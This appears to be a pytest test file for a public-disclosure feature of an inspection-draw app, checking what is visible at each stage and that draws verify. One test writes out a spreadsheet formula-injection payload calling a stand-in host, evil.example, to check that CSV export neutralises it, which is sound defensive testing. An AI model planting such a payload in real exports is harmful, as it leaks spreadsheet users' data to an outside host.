"""What the public sees of a task, and when: nothing of a draft; the commitment at freeze; the seed
and the result's hash at the draw; the picks, teams (inspectors by code) and snapshots only at
disclosure, with recusals never in clear."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from inspect_app.clock import local, utcnow
from inspect_app.models import Entity, Inspector, Recusal
from tests import factories
from tests.factories import internet_cafes, joint_ic_task_body, login, make_inspector


def ended_period() -> dict:
    """A period already over: disclosure is due whatever visits are still open (docs/domain.md,
    "Sealed until the visits"), so these tests may publish right after the draw."""
    today = local(utcnow()).date()
    return {
        "period_start": (today - timedelta(days=40)).isoformat(),
        "period_end": (today - timedelta(days=10)).isoformat(),
        "deadline": (today - timedelta(days=5)).isoformat(),
    }


@pytest.fixture
def district():
    cafes = internet_cafes(4)
    for n in range(1, 5):
        make_inspector(f"CT{n:04d}", "CT", name=f"王{n}明")
        make_inspector(f"PS{n:04d}", "PS")
        make_inspector(f"FR{n:04d}", "FR")
    return cafes


@pytest.fixture
def planner():
    return login("planner", "CT")


def _plan(client, planner, **overrides) -> str:
    response = client.post("/api/v1/tasks", json=joint_ic_task_body(**overrides), headers=planner)
    assert response.status_code == 201, response.get_json()
    return response.get_json()["code"]


def _freeze(client, planner, code):
    for partner in client.get(f"/api/v1/tasks/{code}", headers=planner).get_json()["partners"]:
        accepted = client.post(
            f"/api/v1/tasks/{code}/partners/{partner}/accept", headers=login("planner", partner)
        )
        assert accepted.status_code == 200, accepted.get_json()
    frozen = factories.freeze(client, code, planner)
    assert frozen.status_code == 201, frozen.get_json()


def _drawn(client, planner, **overrides) -> tuple[str, dict]:
    code = _plan(client, planner, **overrides)
    _freeze(client, planner, code)
    drawn = factories.draw(client, code, planner)
    assert drawn.status_code == 201, drawn.get_json()
    return code, drawn.get_json()


@pytest.mark.parametrize("path", ["/api/v1/public/tasks/{}", "/api/v1/public/tasks/{}/results.csv"])
def test_a_draft_task_is_not_public(client, district, planner, path):
    code = _plan(client, planner)
    response = client.get(path.format(code))
    assert response.status_code == 404
    assert response.get_json()["status"] == "NOT_FOUND"


def test_a_frozen_task_is_public_with_its_commitment(client, district, planner):
    code = _plan(client, planner)
    _freeze(client, planner, code)
    record = client.get(f"/api/v1/public/tasks/{code}").get_json()
    assert record["task"]["status"] == "FROZEN" and record["commitment"]["commitment_hash"]
    draw = client.get(f"/api/v1/public/draws/{code}").get_json()
    assert draw["stage"] == "frozen" and "frame" not in draw and "pool" not in draw


def test_at_the_draw_the_public_sees_seed_and_result_hash_but_no_pick_nor_team(
    client, district, planner
):
    code, drawn = _drawn(client, planner)
    draw = client.get(f"/api/v1/public/draws/{code}").get_json()
    assert draw["stage"] == "drawn"
    assert draw["result_hash"] == drawn["result_hash"] and draw["seed"]["value"] == drawn["seed"]
    assert {"frame", "pool", "result"}.isdisjoint(draw)
    task = client.get(f"/api/v1/public/tasks/{code}").get_json()
    assert task["picks"] == [] and task["result_hash"] == drawn["result_hash"]
    text = str(draw) + str(task)
    for assignment in drawn["result"]["assignments"]:
        assert assignment["entity_id"] not in text
        for members in assignment["team"].values():
            assert all(member not in text for member in members)
    csv_rows = client.get(f"/api/v1/public/tasks/{code}/results.csv").get_data(as_text=True)
    assert drawn["result"]["assignments"][0]["entity_id"] not in csv_rows


def test_before_disclosure_the_public_verify_checks_the_draw_without_showing_it(
    client, district, planner
):
    code, _ = _drawn(client, planner)
    answer = client.get(f"/api/v1/public/draws/{code}/verify").get_json()
    assert answer["ok"] is True, answer


def test_the_planner_keeps_the_whole_record(client, district, planner):
    code, drawn = _drawn(client, planner)
    own = client.get(f"/api/v1/tasks/{code}/draw", headers=planner).get_json()
    assert own["result"]["assignments"] == drawn["result"]["assignments"]


def test_at_disclosure_the_whole_record_is_public_inspectors_by_code_recusals_hidden(
    client, district, planner
):
    cafe = Entity.get(Entity.id == district[0].holder_id)
    recused = Inspector.get(Inspector.code == "CT0001")
    Recusal.create(inspector=recused, entity=cafe, reason="亲属关系")
    code, drawn = _drawn(client, planner, **ended_period())
    published = client.post(f"/api/v1/tasks/{code}/publish", headers=planner)
    assert published.status_code == 200, published.get_json()
    draw = client.get(f"/api/v1/public/draws/{code}").get_json()
    assert draw["stage"] == "disclosed"
    assert draw["result"]["assignments"] == drawn["result"]["assignments"]
    assert len(draw["frame"]) == 4 and len(draw["pool"]) == 12
    row = next(r for r in draw["pool"] if r["inspector_id"] == "CT0001")
    assert row["recusals"] and cafe.credit_code not in row["recusals"]
    text = str(draw)
    assert "王1明" not in text
    for exclusion in draw["result"]["exclusions"]:
        if exclusion["reason"] == "recusal_applied":
            assert exclusion["inspector_id"] is None
    picks = client.get(f"/api/v1/public/tasks/{code}").get_json()["picks"]
    assert len(picks) == 4 and all(p["team_departments"] for p in picks)
    assert client.get(f"/api/v1/public/draws/{code}/verify").get_json()["ok"] is True


def test_the_public_csv_neutralises_spreadsheet_formulas(client, district, planner):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
    Entity.update(name=evil).where(Entity.id == district[0].holder_id).execute()
    for n, start in enumerate(("+1+1", "-2+3", "@SUM(A1)"), start=1):
        Entity.update(name=start).where(Entity.id == district[n].holder_id).execute()
    code, _ = _drawn(client, planner, **ended_period())
    client.post(f"/api/v1/tasks/{code}/publish", headers=planner)
    text = client.get(f"/api/v1/public/tasks/{code}/results.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    names = {row["name"] for row in rows}
    assert f"'{evil}" in names
    assert all(not name.startswith(("=", "+", "-", "@")) for name in names)


@pytest.mark.parametrize("text", ["\tcmd", "\r=1", "=1", "+1", "-1", "@A1"])
def test_a_cell_starting_like_a_formula_is_made_inert(text):
    from inspect_app.services.disclosure import inert_cell

    assert inert_cell(text) == "'" + text
    assert inert_cell("上海宝山区第1网络会所有限公司") == "上海宝山区第1网络会所有限公司"


def test_a_disclosed_record_with_recusals_verifies_offline_and_a_change_is_caught(
    client, district, planner
):
    from inspect_app.services import draws

    cafe = Entity.get(Entity.id == district[0].holder_id)
    for code in ("CT0001", "CT0002", "PS0001"):
        Recusal.create(inspector=Inspector.get(Inspector.code == code), entity=cafe, reason="亲属")
    code, _ = _drawn(client, planner, **ended_period())
    client.post(f"/api/v1/tasks/{code}/publish", headers=planner)
    record = client.get(f"/api/v1/public/draws/{code}").get_json()
    assert draws.verify_record(record)["ok"] is True
    record["pool"][0]["recusals"] = ["0" * 64]
    assert draws.verify_record(record)["ok"] is False


def test_a_drawn_record_verifies_its_seed_offline_and_a_changed_seed_is_caught(
    client, district, planner
):
    from inspect_app.services import draws

    code, _ = _drawn(client, planner)
    record = client.get(f"/api/v1/public/draws/{code}").get_json()
    assert draws.verify_record(record)["ok"] is True
    record["seed"]["source_values"] = ["3 17 22 31 9"]
    answer = draws.verify_record(record)
    assert answer["ok"] is False and answer["difference"]["path"] == "seed.source_values"
    record["seed"]["value"] = "0" * 64
    record["seed"]["source_values"] = [record["seed"]["reveal"]["randomness"]]
    answer = draws.verify_record(record)
    assert answer["ok"] is False and answer["difference"]["path"] == "seed.value"
